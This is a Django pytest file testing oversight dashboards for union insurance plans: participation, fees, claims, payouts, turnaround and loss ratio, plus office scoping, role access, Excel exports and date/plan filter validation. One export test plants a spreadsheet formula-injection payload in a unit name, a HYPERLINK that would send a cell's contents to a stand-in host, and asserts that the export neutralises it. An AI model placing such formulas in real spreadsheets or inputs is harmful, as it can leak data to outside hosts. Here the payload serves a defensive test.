"""The dashboards: figures on a small known data set, the scope, the roles and the exports, and
the filters (period and plan) every table and export honours."""

from __future__ import annotations

import datetime
from decimal import Decimal
from io import BytesIO

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape
from django.utils.translation import gettext
from openpyxl import load_workbook

from claims.models import Claim, PaymentBatch, Payout
from enrollment.models import Roster
from oversight import dashboards
from oversight.dashboard_views import read_filters
from plans.models import Plan
from tests import factories

TZ = timezone.get_current_timezone()
D = datetime.date
Filters = dashboards.Filters
# The whole of 2026: the known data sets below lie in it, whatever day the tests run on.
YEAR_2026 = Filters(date_from=D(2026, 1, 1), date_to=D(2026, 12, 31))
QUERY_2026 = {"date_from": "2026-01-01", "date_to": "2026-12-31"}
HEADER_ROW = 4  # title, filters, basis, blank line, then the header


def at(day: datetime.date, hour: int = 10, minute: int = 0) -> datetime.datetime:
    return datetime.datetime.combine(day, datetime.time(hour, minute), tzinfo=TZ)


def sheet_rows(response) -> list[tuple]:
    return list(load_workbook(BytesIO(response.content)).active.iter_rows(values_only=True))


@pytest.fixture
def data(world):
    version = factories.catalog_version("jilin-allowance-2020")
    plan = version.plan
    # Unit A: headcount 100 (< 200 → must enroll 100%), one member enrolled: under threshold.
    enrollment_a = factories.enroll(world.member_a, version)
    # Unit B: headcount 2, both enrolled: 100%, not marked.
    world.unit_b.headcount = 2
    world.unit_b.save()
    factories.enroll(world.member_b, version)
    factories.enroll(factories.MemberFactory(union=world.unit_b), version)
    # A cancelled enrollment does not count.
    factories.enroll(factories.MemberFactory(union=world.unit_a), version, status="cancelled")
    # The other office's figures must never show.
    other_enrollment = factories.enroll(world.other_member, version)

    factories.RosterFactory(
        union=world.unit_a,
        plan_version=version,
        status=Roster.Status.PAID,
        fee_total=Decimal("220.00"),
        payment_amount=Decimal("200.00"),
        payment_date=datetime.date(2026, 1, 5),
    )
    factories.RosterFactory(
        union=world.unit_b,
        plan_version=version,
        status=Roster.Status.APPROVED,
        fee_total=Decimal("330.00"),
    )
    # Checked but not submitted: nothing is due yet.
    factories.RosterFactory(union=world.unit_b, plan_version=version, fee_total=Decimal("999.00"))
    factories.RosterFactory(
        union=world.other_unit,
        plan_version=version,
        status=Roster.Status.PAID,
        fee_total=Decimal("5000.00"),
        payment_amount=Decimal("5000.00"),
    )

    # A claim paid 5 working days after its documents were complete (Mon 2 → Mon 9 March).
    paid = factories.ClaimFactory(
        enrollment=enrollment_a,
        status=Claim.Status.PAID,
        approved_amount=Decimal("1000.00"),
        completed_at=at(datetime.date(2026, 3, 2)),
        due_date=datetime.date(2026, 3, 16),
        paid_at=at(datetime.date(2026, 3, 9), 15),
    )
    Payout.objects.create(
        claim=paid,
        kind=Payout.Kind.PRIMARY,
        amount=Decimal("1000.00"),
        payee_name=paid.payee_name,
        payee_account=paid.payee_account,
        status=Payout.Status.PAID,
        paid_at=paid.paid_at,
        granted_by=world.office_staff,
    )
    reported = factories.ClaimFactory(enrollment=enrollment_a, status=Claim.Status.REPORTED)
    Claim.objects.filter(pk=paid.pk).update(reported_at=at(datetime.date(2026, 2, 20)))
    Claim.objects.filter(pk=reported.pk).update(reported_at=at(datetime.date(2026, 4, 3)))
    other = factories.ClaimFactory(
        enrollment=other_enrollment, status=Claim.Status.APPROVED, approved_amount=Decimal("77")
    )
    Claim.objects.filter(pk=other.pk).update(reported_at=at(datetime.date(2026, 3, 3)))
    Payout.objects.create(
        claim=other,
        kind=Payout.Kind.PRIMARY,
        amount=Decimal("77.00"),
        payee_name=other.payee_name,
        payee_account=other.payee_account,
        granted_by=world.other_office_staff,
    )
    Payout.objects.update(created_at=at(datetime.date(2026, 3, 5)))
    return plan


def by_first(table: dashboards.Table) -> dict:
    return {row.values[0]: row for row in table.rows}


def test_participation_rate_and_threshold(world, data):
    table = dashboards.participation(world.office_staff, YEAR_2026)
    rows = by_first(table)
    assert set(rows) == {"甲单位工会", "乙单位工会", "丙单位工会", gettext("Total")}
    # The total counts each member once, against the headcounts of every unit in scope.
    total = rows[gettext("Total")]
    assert total.values[3:6] == [202, 3, Decimal("0.0149")] and not total.warn
    assert table.rows[-1] is total
    a = rows["甲单位工会"]
    assert a.values[2:7] == [data.display_name, 100, 1, Decimal("0.0100"), Decimal("1.00")]
    assert a.warn
    b = rows["乙单位工会"]
    assert b.values[3:7] == [2, 2, Decimal("1.0000"), Decimal("1.00")]
    assert not b.warn
    c = rows["丙单位工会"]  # nobody enrolled: listed, no plan, not marked
    assert c.values[2] == "" and c.values[4] == 0 and not c.warn
    assert [bar.warn for bar in table.bars] == [True, False]


def test_fees_due_and_collected(world, data):
    rows = by_first(dashboards.fees(world.office_staff, YEAR_2026))
    assert rows["甲单位工会"].values[3:8] == [
        1,
        Decimal("220.00"),
        Decimal("200.00"),
        Decimal("20.00"),
        Decimal("0.9091"),
    ]
    assert rows["乙单位工会"].values[4:7] == [Decimal("330.00"), Decimal("0.00"), Decimal("330.00")]
    total = rows["Total"] if "Total" in rows else rows["合计"]
    assert total.values[3:7] == [2, Decimal("550.00"), Decimal("200.00"), Decimal("350.00")]


def test_claims_by_status_and_month(world, data):
    table = dashboards.claims(world.office_staff, YEAR_2026)
    figures = [(r.values[0], r.values[1], r.values[3], r.values[4]) for r in table.rows]
    assert figures == [
        ("2026-02", data.display_name, 1, Decimal("1000.00")),
        ("2026-04", data.display_name, 1, Decimal("0.00")),
    ]
    assert [(bar.label, bar.value) for bar in table.bars] == [("2026-02", 1), ("2026-04", 1)]


def test_payouts_turnaround_and_ratio(world, data):
    payouts = dashboards.payouts(world.office_staff, YEAR_2026)
    assert payouts.rows[-1].values[3:] == [1, Decimal("1000.00")]
    turnaround = dashboards.turnaround(world.office_staff, YEAR_2026)
    plan_row = turnaround.rows[0]
    assert plan_row.values == [data.display_name, 1, 5, 5, 10, 1, Decimal("1.0000")]
    assert not plan_row.warn
    ratio = dashboards.loss_ratio(world.office_staff, YEAR_2026)
    assert ratio.rows[0].values == [
        data.display_name,
        Decimal("200.00"),
        Decimal("1000.00"),
        Decimal("1000.00"),
        Decimal("5.0000"),
    ]


def test_percentile_and_working_days():
    assert dashboards.percentile([], 0.9) is None
    assert dashboards.percentile(list(range(1, 11)), 0.9) == 9
    assert dashboards.percentile([3], 0.9) == 3


def test_other_office_sees_none_of_it(world, data):
    user = world.other_office_staff
    assert {r.values[0] for r in dashboards.participation(user, YEAR_2026).rows} == {
        "外办事处单位工会",
        gettext("Total"),
    }
    assert [r.values[4] for r in dashboards.fees(user, YEAR_2026).rows][0] == Decimal("5000.00")
    assert all(
        r.values[3] != 1 or r.values[4] != Decimal("1000.00")
        for r in dashboards.claims(user, YEAR_2026).rows
    )
    assert dashboards.turnaround(user, YEAR_2026).rows == []
    assert dashboards.payouts(user, YEAR_2026).rows[-1].values[4] == Decimal("77.00")


def test_page_for_office_staff_and_auditor_only(client, world, data):
    url = reverse("oversight:dashboards")
    for user in (world.office_staff, world.auditor):
        client.force_login(user)
        response = client.get(url, QUERY_2026)
        assert response.status_code == 200
        html = response.content.decode()
        assert "甲单位工会" in html and "外办事处单位工会" not in html
        assert "<svg" in html and "table-danger" in html
        assert "style=" not in html.split("<main", 1)[1]
    for user in (world.clerk_a, world.plan_admin, world.county_staff_a):
        client.force_login(user)
        assert client.get(url).status_code == 403
        export = reverse("oversight:dashboard_export", args=["fees"])
        assert client.get(export).status_code == 403


def test_export_is_scoped_and_neutralised(client, world, data):
    world.unit_a.name = '=HYPERLINK("http://x/?"&A1,"click")'
    world.unit_a.save()
    client.force_login(world.auditor)
    response = client.get(reverse("oversight:dashboard_export", args=["participation"]), QUERY_2026)
    assert response.status_code == 200
    rows = sheet_rows(response)
    names = [row[0] for row in rows[HEADER_ROW + 1 :]]
    assert "'" + world.unit_a.name in names
    assert world.unit_a.name not in names
    assert rows[HEADER_ROW + 1 + names.index("'" + world.unit_a.name)][5] == pytest.approx(0.01)
    for slug in dashboards.TABLES:
        response = client.get(reverse("oversight:dashboard_export", args=[slug]), QUERY_2026)
        assert response.status_code == 200, slug
        load_workbook(BytesIO(response.content))
    assert client.get("/dashboards/nothing.xlsx").status_code == 404

    # Another office's export holds none of office A's rows.
    client.force_login(world.other_office_staff)
    response = client.get(reverse("oversight:dashboard_export", args=["participation"]), QUERY_2026)
    rows = sheet_rows(response)
    assert [row[0] for row in rows[HEADER_ROW + 1 :]] == ["外办事处单位工会", gettext("Total")]
    response = client.get(reverse("oversight:dashboard_export", args=["turnaround"]), QUERY_2026)
    rows = sheet_rows(response)
    assert len(rows) == HEADER_ROW + 1  # the lines above the header, and the header


# --- filters: the period and the plan, table by table ----------------------------------------


def period(
    start: datetime.date, end: datetime.date, plan: Plan | None = None
) -> dashboards.Filters:
    return Filters(date_from=start, date_to=end, plan=plan)


def payout(claim, amount, *, granted, paid=None, status=Payout.Status.DUE, batch=None, by=None):
    item = Payout.objects.create(
        claim=claim,
        kind=Payout.Kind.PRIMARY,
        amount=Decimal(amount),
        payee_name=claim.payee_name,
        payee_account=claim.payee_account,
        status=status,
        batch=batch,
        paid_at=paid,
        granted_by=by or claim.reported_by,
    )
    Payout.objects.filter(pk=item.pk).update(created_at=granted)
    return item


@pytest.fixture
def two_plans(world):
    """The Jilin plan and the Linyi one, both open to every office."""
    return factories.catalog_version(), factories.catalog_version("linyi-accident-2019")


@pytest.fixture
def periods(world, two_plans):
    """Office A's figures spread over 2025, 2026 and 2027 and over two plans."""
    jilin, linyi = two_plans
    cover_2025 = factories.enroll(world.member_a, jilin, coverage_start=D(2025, 1, 1))
    cover_a = factories.enroll(world.member_a, jilin)
    cover_b = factories.enroll(world.member_b, linyi)

    def roster(plan_version, start, status, fee, paid=None):
        return factories.RosterFactory(
            union=world.unit_a,
            plan_version=plan_version,
            coverage_start=start,
            coverage_end=D(start.year, 12, 31),
            status=status,
            fee_total=Decimal(fee),
            payment_amount=Decimal(paid) if paid else None,
            payment_date=start if paid else None,
        )

    roster(jilin, D(2026, 1, 1), Roster.Status.PAID, "220.00", "200.00")
    roster(jilin, D(2025, 1, 1), Roster.Status.PAID, "100.00", "90.00")
    roster(linyi, D(2026, 1, 1), Roster.Status.PAID, "50.00", "40.00")
    roster(linyi, D(2026, 1, 1), Roster.Status.SUBMITTED, "60.00")

    def claim(enrollment, reported, **kwargs):
        made = factories.ClaimFactory(enrollment=enrollment, **kwargs)
        Claim.objects.filter(pk=made.pk).update(reported_at=reported)
        return made

    def paid_claim(enrollment, reported, completed, paid, due):
        return claim(
            enrollment,
            at(reported),
            status=Claim.Status.PAID,
            approved_amount=Decimal("100.00"),
            completed_at=at(completed),
            paid_at=at(paid, 15),
            due_date=due,
        )

    # Turnaround: 5 working days (Mon 2 → Mon 9 March 2026), 2 (Mon 1 → Wed 3 June 2026),
    # and 4 in 2025 (Mon 1 → Fri 5 December).
    jilin_paid = paid_claim(cover_a, D(2026, 2, 20), D(2026, 3, 2), D(2026, 3, 9), D(2026, 3, 16))
    linyi_paid = paid_claim(cover_b, D(2026, 5, 20), D(2026, 6, 1), D(2026, 6, 3), D(2026, 6, 15))
    old_paid = paid_claim(
        cover_2025, D(2025, 11, 20), D(2025, 12, 1), D(2025, 12, 5), D(2025, 12, 15)
    )
    # The edges of a day in the portal's time zone: 31 March late at night, 1 April at midnight.
    claim(cover_a, at(D(2026, 3, 31), 23, 59))
    claim(cover_b, at(D(2026, 4, 1), 0, 0))

    # Payouts: a paid one by its payment day, an unpaid one by the day it was granted.
    payout(
        jilin_paid,
        "1000.00",
        granted=at(D(2025, 12, 20)),
        paid=at(D(2026, 1, 10)),
        status=Payout.Status.PAID,
    )
    due = claim(
        cover_a, at(D(2026, 4, 20)), status=Claim.Status.APPROVED, approved_amount=Decimal(300)
    )
    payout(due, "300.00", granted=at(D(2026, 5, 5)))
    batch = PaymentBatch.objects.create(
        number="PB-DASH-1", office=world.office, created_by=world.office_staff
    )
    payout(
        linyi_paid, "50.00", granted=at(D(2026, 2, 1)), status=Payout.Status.BATCHED, batch=batch
    )
    # Granted in 2026 but paid in January 2027: a 2027 payout.
    late = claim(
        cover_a, at(D(2026, 5, 2)), status=Claim.Status.APPROVED, approved_amount=Decimal(700)
    )
    payout(
        late,
        "700.00",
        granted=at(D(2026, 6, 1)),
        paid=at(D(2027, 1, 5)),
        status=Payout.Status.PAID,
    )
    payout(old_paid, "80.00", granted=at(D(2025, 12, 1)), paid=at(D(2025, 12, 5)), status="paid")
    return jilin.plan, linyi.plan


def test_default_filters_are_this_year_to_today_and_every_plan():
    today = timezone.localdate()
    assert Filters.default() == Filters(date_from=D(today.year, 1, 1), date_to=today, plan=None)


def test_participation_counts_cover_in_force_on_the_last_day(world, two_plans):
    jilin, linyi = two_plans
    world.unit_a.headcount = 4
    world.unit_a.save()
    # Cover for 2025 only: expired in 2026, though the enrollment is still marked active.
    factories.enroll(world.member_a, jilin, coverage_start=D(2025, 1, 1))
    factories.enroll(factories.MemberFactory(union=world.unit_a), jilin)
    # One member holding two enrollments of 2026 (shares split over two rosters; the Linyi
    # accident plan allows up to 4 shares a person): counted once.
    twice = factories.MemberFactory(union=world.unit_b)
    factories.enroll(twice, linyi)
    factories.enroll(twice, linyi, shares=2)
    # Cover from 1 July 2026 to 30 June 2027.
    factories.enroll(
        factories.MemberFactory(union=world.unit_a), jilin, coverage_start=D(2026, 7, 1)
    )
    # Awaiting payment and cancelled: never counted.
    factories.enroll(factories.MemberFactory(union=world.unit_a), jilin, status="pending")
    factories.enroll(factories.MemberFactory(union=world.unit_a), jilin, status="cancelled")

    def unit_a_on(day):
        table = dashboards.participation(world.office_staff, period(D(day.year, 1, 1), day))
        return by_first(table)["甲单位工会"].values[2:6]

    name = jilin.plan.display_name
    assert unit_a_on(D(2024, 12, 31)) == ["", 4, 0, Decimal("0.0000")]
    assert unit_a_on(D(2025, 6, 30)) == [name, 4, 1, Decimal("0.2500")]
    assert unit_a_on(D(2025, 12, 31)) == [name, 4, 1, Decimal("0.2500")]  # the last day counts
    assert unit_a_on(D(2026, 3, 31)) == [name, 4, 1, Decimal("0.2500")]
    assert unit_a_on(D(2026, 7, 1)) == [name, 4, 2, Decimal("0.5000")]
    assert unit_a_on(D(2027, 1, 1)) == [name, 4, 1, Decimal("0.2500")]
    table = dashboards.participation(world.office_staff, period(D(2026, 1, 1), D(2026, 3, 31)))
    assert dashboards.day_text(D(2026, 3, 31)) in table.basis
    assert by_first(table)["乙单位工会"].values[2:5] == [linyi.plan.display_name, 100, 1]


def test_participation_per_chosen_plan(world, periods):
    jilin, linyi = periods
    day = period(D(2026, 1, 1), D(2026, 6, 30))
    everything = by_first(dashboards.participation(world.office_staff, day))
    assert everything["甲单位工会"].values[2:5] == [jilin.display_name, 100, 1]
    assert everything["乙单位工会"].values[2:5] == [linyi.display_name, 100, 1]
    only_linyi = dashboards.participation(
        world.office_staff, period(D(2026, 1, 1), D(2026, 6, 30), linyi)
    )
    rows = by_first(only_linyi)
    assert rows["乙单位工会"].values[2:5] == [linyi.display_name, 100, 1]
    assert rows["甲单位工会"].values[2:5] == ["", 100, 0]  # no cover in that plan
    assert [row.values[2] for row in only_linyi.rows].count(jilin.display_name) == 0


def test_fees_by_coverage_start_and_plan(world, periods):
    jilin, linyi = periods

    def figures(filters):
        return [
            (r.values[2], r.values[3], r.values[4], r.values[5])
            for r in dashboards.fees(world.office_staff, filters).rows
        ]

    rows_2026 = figures(YEAR_2026)
    assert sorted(rows_2026[:-1]) == sorted(
        [
            (jilin.display_name, 1, Decimal("220.00"), Decimal("200.00")),
            (linyi.display_name, 2, Decimal("110.00"), Decimal("40.00")),
        ]
    )
    assert rows_2026[-1][1:] == (3, Decimal("330.00"), Decimal("240.00"))
    assert figures(period(D(2026, 1, 1), D(2026, 12, 31), jilin)) == [
        (jilin.display_name, 1, Decimal("220.00"), Decimal("200.00")),
        ("", 1, Decimal("220.00"), Decimal("200.00")),
    ]
    assert figures(period(D(2025, 1, 1), D(2025, 12, 31)))[0] == (
        jilin.display_name,
        1,
        Decimal("100.00"),
        Decimal("90.00"),
    )
    assert figures(period(D(2026, 1, 2), D(2026, 12, 31))) == []  # every roster starts 1 Jan


def test_claims_by_report_date_and_plan(world, periods):
    jilin, linyi = periods

    def figures(filters):
        return [
            (r.values[0], r.values[1], r.values[3])
            for r in dashboards.claims(world.office_staff, filters).rows
        ]

    # 31 March 23:59 falls in March; 1 April 00:00 in April (the portal's time zone).
    assert figures(period(D(2026, 2, 1), D(2026, 3, 31))) == [
        ("2026-02", jilin.display_name, 1),
        ("2026-03", jilin.display_name, 1),
    ]
    assert figures(period(D(2026, 4, 1), D(2026, 4, 1))) == [("2026-04", linyi.display_name, 1)]
    assert figures(period(D(2026, 1, 1), D(2026, 12, 31), linyi)) == [
        ("2026-04", linyi.display_name, 1),
        ("2026-05", linyi.display_name, 1),
    ]
    assert figures(period(D(2025, 1, 1), D(2025, 12, 31))) == [("2025-11", jilin.display_name, 1)]


def test_payouts_by_day_paid_or_granted_and_plan(world, periods):
    jilin, linyi = periods

    def total(filters):
        rows = dashboards.payouts(world.office_staff, filters).rows
        return rows[-1].values[3:] if rows else None

    # Paid 10 Jan (granted in 2025), due since 5 May, batched since 1 Feb; not the one paid 2027.
    assert total(YEAR_2026) == [3, Decimal("1350.00")]
    assert total(period(D(2026, 1, 1), D(2026, 12, 31), jilin)) == [2, Decimal("1300.00")]
    assert total(period(D(2026, 1, 1), D(2026, 12, 31), linyi)) == [1, Decimal("50.00")]
    assert total(period(D(2026, 5, 1), D(2026, 5, 31))) == [1, Decimal("300.00")]
    assert total(period(D(2025, 1, 1), D(2025, 12, 31))) == [1, Decimal("80.00")]
    assert total(period(D(2027, 1, 1), D(2027, 1, 31))) == [1, Decimal("700.00")]
    assert total(period(D(2026, 6, 1), D(2026, 12, 31))) is None  # 700 granted 1 June, paid 2027


def test_turnaround_by_paid_date_and_plan(world, periods):
    jilin, linyi = periods

    def figures(filters):
        return [r.values[:4] for r in dashboards.turnaround(world.office_staff, filters).rows]

    assert figures(YEAR_2026) == [
        [jilin.display_name, 1, 5, 5],
        [linyi.display_name, 1, 2, 2],
        [gettext("All plans"), 2, 3.5, 5],
    ]
    assert figures(period(D(2026, 1, 1), D(2026, 12, 31), linyi)) == [
        [linyi.display_name, 1, 2, 2],
        [gettext("All plans"), 1, 2, 2],
    ]
    assert figures(period(D(2025, 1, 1), D(2025, 12, 31))) == [
        [jilin.display_name, 1, 4, 4],
        [gettext("All plans"), 1, 4, 4],
    ]
    assert figures(period(D(2026, 3, 10), D(2026, 6, 2))) == []


def test_loss_ratio_for_plan_and_period(world, periods):
    jilin, linyi = periods

    def figures(filters):
        return {
            r.values[0]: r.values[1:]
            for r in dashboards.loss_ratio(world.office_staff, filters).rows
        }

    assert figures(YEAR_2026) == {
        jilin.display_name: [
            Decimal("200.00"),
            Decimal("1300.00"),
            Decimal("1000.00"),
            Decimal("5.0000"),
        ],
        linyi.display_name: [
            Decimal("40.00"),
            Decimal("50.00"),
            Decimal("0.00"),
            Decimal("0.0000"),
        ],
    }
    assert list(figures(period(D(2026, 1, 1), D(2026, 12, 31), linyi))) == [linyi.display_name]
    assert figures(period(D(2025, 1, 1), D(2025, 12, 31))) == {
        jilin.display_name: [
            Decimal("90.00"),
            Decimal("80.00"),
            Decimal("80.00"),
            Decimal("0.8889"),
        ],
    }


def test_figures_of_a_plan_the_user_cannot_see_never_show(world, two_plans):
    """Even if asked directly (the form refuses such a plan before), and even under "all plans"."""
    _jilin, linyi = two_plans
    Plan.objects.filter(pk=linyi.plan_id).update(office=world.other_office)
    other_plan = Plan.objects.get(pk=linyi.plan_id)
    cover = factories.enroll(world.member_a, linyi)
    factories.ClaimFactory(enrollment=cover)
    factories.RosterFactory(
        union=world.unit_a, plan_version=linyi, status=Roster.Status.SUBMITTED, fee_total=9
    )
    for filters in (period(D(2026, 1, 1), D(2026, 12, 31), other_plan), YEAR_2026):
        assert dashboards.claims(world.office_staff, filters).rows == []
        assert dashboards.fees(world.office_staff, filters).rows == []
        participation = by_first(dashboards.participation(world.office_staff, filters))
        assert participation["甲单位工会"].values[4] == 0


# --- the page and the exports with filters ------------------------------------------------------


def test_page_states_the_filters_and_keeps_them_in_every_export_link(client, world, periods):
    jilin, _linyi = periods
    client.force_login(world.office_staff)
    query = {"date_from": "2026-02-01", "date_to": "2026-03-31", "plan": jilin.code}
    response = client.get(reverse("oversight:dashboards"), query)
    assert response.status_code == 200
    chosen = period(D(2026, 2, 1), D(2026, 3, 31), jilin)
    assert response.context["filters"] == chosen
    assert not response.context["set_aside"]
    html = response.content.decode()
    assert escape(chosen.describe()) in html
    for part in (dashboards.day_text(D(2026, 2, 1)), dashboards.day_text(D(2026, 3, 31))):
        assert part in chosen.describe()
    assert jilin.display_name in chosen.describe()
    assert 'value="2026-02-01"' in html and 'value="2026-03-31"' in html
    assert f'<option value="{jilin.code}" selected>' in html
    kept = f"?date_from=2026-02-01&amp;date_to=2026-03-31&amp;plan={jilin.code}"
    for slug in dashboards.TABLES:
        assert f'href="/dashboards/{slug}.xlsx{kept}"' in html, slug
    # Each table says what the period means for it.
    for compute in dashboards.TABLES.values():
        basis = compute(world.office_staff, chosen).basis
        assert escape(basis) in html
        assert chosen.period_text in basis or dashboards.day_text(D(2026, 3, 31)) in basis
    assert "style=" not in html.split("<main", 1)[1]


def test_blank_dates_take_the_defaults(client, world):
    client.force_login(world.auditor)
    response = client.get(
        reverse("oversight:dashboards"), {"date_from": "", "date_to": "2025-06-30"}
    )
    assert response.context["filters"] == period(D(2025, 1, 1), D(2025, 6, 30))
    assert 'value="2025-01-01"' in response.content.decode()  # shown as applied
    response = client.get(reverse("oversight:dashboards"))
    assert response.context["filters"] == Filters.default()
    assert escape(Filters.default().describe()) in response.content.decode()


def test_export_honours_and_states_the_filters(client, world, periods):
    jilin, _linyi = periods
    client.force_login(world.auditor)
    query = {"date_from": "2026-02-01", "date_to": "2026-03-31", "plan": jilin.code}
    response = client.get(reverse("oversight:dashboard_export", args=["claims"]), query)
    assert response.status_code == 200
    assert f"claims-20260201-20260331-{jilin.code}.xlsx" in response["Content-Disposition"]
    rows = sheet_rows(response)
    chosen = period(D(2026, 2, 1), D(2026, 3, 31), jilin)
    table = dashboards.claims(world.auditor, chosen)
    assert rows[0][0] == table.title
    assert rows[1][0] == chosen.describe()
    assert rows[2][0] == table.basis and chosen.period_text in table.basis
    assert rows[HEADER_ROW][0] == gettext("Month reported")
    assert [(r[0], r[1], r[3]) for r in rows[HEADER_ROW + 1 :]] == [
        ("2026-02", jilin.display_name, 1),
        ("2026-03", jilin.display_name, 1),
    ]
    payouts = reverse("oversight:dashboard_export", args=["payouts"])
    assert sheet_rows(client.get(payouts, query))[HEADER_ROW + 1 :] == []
    rows = sheet_rows(client.get(payouts, {**query, "date_from": "2026-01-01"}))
    assert [(r[0], r[3], r[4]) for r in rows[HEADER_ROW + 1 :]] == [
        (jilin.display_name, 1, 1000),  # paid 10 January; the 300 granted 5 May is outside
        (gettext("Total"), 1, 1000),
    ]
    response = client.get(reverse("oversight:dashboard_export", args=["participation"]), query)
    rows = sheet_rows(response)
    assert dashboards.day_text(D(2026, 3, 31)) in rows[2][0]
    figures = {r[0]: r[2:5] for r in rows[HEADER_ROW + 1 :]}
    assert figures["甲单位工会"] == (jilin.display_name, 100, 1)
    assert figures["乙单位工会"] == (None, 100, 0)  # member B's cover is in the other plan


AFTER = "The start date (%(start)s) is after the end date (%(end)s)."
MALFORMED = "Enter a date as year-month-day, e.g. 2026-01-31."
TOO_LONG = "Choose a period of at most %(years)s years."
OUT_OF_RANGE = "Enter a date from %(first)s to %(last)s."
NO_SUCH_PLAN = "Choose one of the plans listed, or all plans."
BOUNDS = {"first": "2000-01-01", "last": "2099-12-31"}

BAD_INPUT = [
    pytest.param(
        {"date_from": "2026-05-01", "date_to": "2026-04-01"},
        "__all__",
        AFTER,
        {"start": "2026-05-01", "end": "2026-04-01"},
        id="to-before-from",
    ),
    pytest.param(
        {"date_from": "2099-05-01"},  # the end date left blank: today
        "__all__",
        AFTER,
        {"start": "2099-05-01", "end": timezone.localdate().isoformat()},
        id="from-after-today",
    ),
    pytest.param({"date_from": "2026-02-30"}, "date_from", MALFORMED, {}, id="malformed-from"),
    pytest.param({"date_to": "yesterday"}, "date_to", MALFORMED, {}, id="malformed-to"),
    pytest.param(
        {"date_from": "2015-01-01", "date_to": "2026-01-01"},
        "__all__",
        TOO_LONG,
        {"years": 5},
        id="eleven-years",
    ),
    pytest.param(
        {"date_from": "2020-01-01", "date_to": "2025-01-01"},
        "__all__",
        TOO_LONG,
        {"years": 5},
        id="five-years-and-a-day",
    ),
    pytest.param(
        {"date_from": "0001-01-01", "date_to": "0001-12-31"},
        "date_from",
        OUT_OF_RANGE,
        BOUNDS,
        id="year-one",
    ),
    pytest.param(
        {"date_from": "2099-01-01", "date_to": "9999-12-31"},
        "date_to",
        OUT_OF_RANGE,
        BOUNDS,
        id="year-9999",
    ),
    pytest.param({"plan": "no-such-plan"}, "plan", NO_SUCH_PLAN, {}, id="unknown-plan"),
    pytest.param({"plan": "x" * 5000}, "plan", NO_SUCH_PLAN, {}, id="long-plan"),
]


@pytest.mark.parametrize(("query", "field", "message", "params"), BAD_INPUT)
def test_bad_input_is_explained_and_the_defaults_apply(
    client, world, data, query, field, message, params
):
    client.force_login(world.office_staff)
    response = client.get(reverse("oversight:dashboards"), query)
    assert response.status_code == 200
    assert response.context["set_aside"]
    assert response.context["filters"] == Filters.default()
    expected = gettext(message) % params if params else gettext(message)
    assert response.context["form"].errors[field] == [expected]
    html = response.content.decode()
    assert escape(expected) in html
    assert 'id="dashboard-filters-set-aside"' in html
    assert escape(Filters.default().describe()) in html
    # The export links carry the defaults actually shown, and the export falls back the same way.
    default_query = "date_from={date_from}&amp;date_to={date_to}&amp;plan=".format(
        **Filters.default().query()
    )
    assert f"/dashboards/claims.xlsx?{default_query}" in html
    for slug in dashboards.TABLES:
        response = client.get(reverse("oversight:dashboard_export", args=[slug]), query)
        assert response.status_code == 200, slug
        assert sheet_rows(response)[1][0] == Filters.default().describe()


def test_a_full_five_years_is_allowed(client, world):
    client.force_login(world.office_staff)
    response = client.get(
        reverse("oversight:dashboards"), {"date_from": "2020-01-01", "date_to": "2024-12-31"}
    )
    assert not response.context["set_aside"]
    assert response.context["filters"] == period(D(2020, 1, 1), D(2024, 12, 31))


def test_another_offices_plan_cannot_be_chosen(client, rf, world, two_plans, data):
    _jilin, linyi = two_plans
    Plan.objects.filter(pk=linyi.plan_id).update(office=world.other_office)
    client.force_login(world.office_staff)
    page = client.get(reverse("oversight:dashboards"))
    choices = page.context["form"].fields["plan"].queryset
    assert linyi.plan_id not in {plan.pk for plan in choices}
    assert data.pk in {plan.pk for plan in choices}
    assert f'value="{linyi.plan.code}"' not in page.content.decode()
    response = client.get(reverse("oversight:dashboards"), {"plan": linyi.plan.code})
    assert response.context["set_aside"]
    assert response.context["filters"].plan is None
    assert escape(gettext(NO_SUCH_PLAN)) in response.content.decode()
    response = client.get(
        reverse("oversight:dashboard_export", args=["claims"]), {"plan": linyi.plan.code}
    )
    assert linyi.plan.display_name not in str(sheet_rows(response))
    # The other office's own staff may choose it.
    request = rf.get("/dashboards/", {"plan": linyi.plan.code})
    request.user = world.other_office_staff
    _form, filters, set_aside = read_filters(request)
    assert not set_aside and filters.plan.pk == linyi.plan_id


def test_page_queries_do_not_grow_with_the_rows(client, world, data):
    """Set-based: the same number of queries for three units as for a dozen more."""
    client.force_login(world.office_staff)
    url = reverse("oversight:dashboards")

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            assert client.get(url, QUERY_2026).status_code == 200
        return len(captured)

    queries()  # the first request of a session loads more
    before = queries()
    version = factories.catalog_version()
    for _ in range(12):
        unit = factories.unit(world.county_b)
        cover = factories.enroll(factories.MemberFactory(union=unit), version)
        factories.RosterFactory(
            union=unit, plan_version=version, status=Roster.Status.SUBMITTED, fee_total=10
        )
        claim = factories.ClaimFactory(
            enrollment=cover,
            status=Claim.Status.PAID,
            approved_amount=Decimal(5),
            completed_at=at(D(2026, 3, 2)),
            paid_at=at(D(2026, 3, 4)),
            due_date=D(2026, 3, 16),
        )
        payout(claim, "5.00", granted=at(D(2026, 3, 3)), paid=claim.paid_at, status="paid")
    assert queries() == before
